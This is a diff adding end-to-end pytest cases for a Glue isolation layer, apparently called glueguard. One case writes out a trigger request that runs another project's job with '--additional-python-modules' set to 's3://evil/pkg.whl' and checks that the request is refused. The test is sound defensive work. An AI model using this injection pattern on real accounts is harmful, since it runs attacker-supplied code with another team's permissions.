@@ -11,6 +11,7 @@ import pytest
 from botocore.exceptions import ClientError
 from glueguard.adapters.clients import reset_clients
 from glueguard.adapters.registry import Registry
+from glueguard.glue_triggers import TriggerRefused, create
 
 from tests.e2e.conftest import ACCOUNT, SandboxHandle, provisioned, trust
 from tests.support.provisioning import request
@@ -100,6 +101,38 @@ def test_a_scientist_cannot_touch_b_glue_resources(sandbox: SandboxHandle, proje
     denied(glue.get_database, Name=b.names.database, because="glue:GetDatabase")
     denied(glue.get_tables, DatabaseName=b.names.database, because="glue:GetTables")
     assert sandbox.client("glue").get_job(JobName=theirs)["Job"]["Name"] == theirs  # still there
+
+
+def test_a_scientist_cannot_make_a_trigger_that_runs_another_projects_job(sandbox: SandboxHandle, projects):
+    """Issue #12 item 2: CreateTrigger is authorised on the trigger's ARN only, so the actions are the plane's to
+    check; A's scientist is refused at the call, and the plane's path refuses the same request."""
+    a, b, scientist, _ = projects
+    theirs = b.names.resource("job", "existing")
+    attack = {
+        "Name": a.names.resource("trigger", "innocent"),
+        "Type": "ON_DEMAND",
+        "Actions": [{"JobName": theirs, "Arguments": {"--additional-python-modules": "s3://evil/pkg.whl"}}],
+    }
+    admin = sandbox.client("glue")
+    before = len(admin.get_job_runs(JobName=theirs)["JobRuns"])
+    denied(sandbox.client("glue", scientist).create_trigger, **attack, because="glue:CreateTrigger")
+    with pytest.raises(TriggerRefused, match="not a job of the project"):
+        create(admin, attack, a)
+    assert attack["Name"] not in admin.list_triggers()["TriggerNames"]
+    assert len(admin.get_job_runs(JobName=theirs)["JobRuns"]) == before
+
+
+def test_a_trigger_made_on_the_plane_path_fires_the_projects_own_job(sandbox: SandboxHandle, projects):
+    """The legitimate use beside the attack: the operator makes A's trigger on the checked path, and A's scientist
+    fires it, which runs A's job (the run names its trigger)."""
+    a, _, scientist, _ = projects
+    admin = sandbox.client("glue")
+    mine = admin.create_job(**_job(a, "triggered"))["Name"]  # its own job: "existing" may be running already
+    trigger = {"Name": a.names.resource("trigger", "nightly"), "Type": "ON_DEMAND", "Actions": [{"JobName": mine}]}
+    create(admin, trigger, a)
+    sandbox.client("glue", scientist).start_trigger(Name=trigger["Name"])
+    [run] = admin.get_job_runs(JobName=mine)["JobRuns"]
+    assert run.get("TriggerName") == trigger["Name"]
 
 
 def test_a_denial_is_logged_by_cloudtrail_with_its_error_code(sandbox: SandboxHandle, projects, events):
